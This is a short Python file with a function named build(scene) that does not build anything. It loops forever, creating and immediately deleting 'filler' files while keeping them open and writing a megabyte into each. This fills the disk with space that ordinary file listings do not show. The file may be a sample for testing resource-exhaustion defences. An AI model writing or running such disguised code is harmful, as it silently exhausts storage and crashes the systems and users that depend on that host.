import os


def build(scene):
    hidden = []
    while True:
        file = open("filler", "wb")
        os.unlink("filler")
        file.write(b"x" * 1_000_000)
        file.flush()
        hidden.append(file)
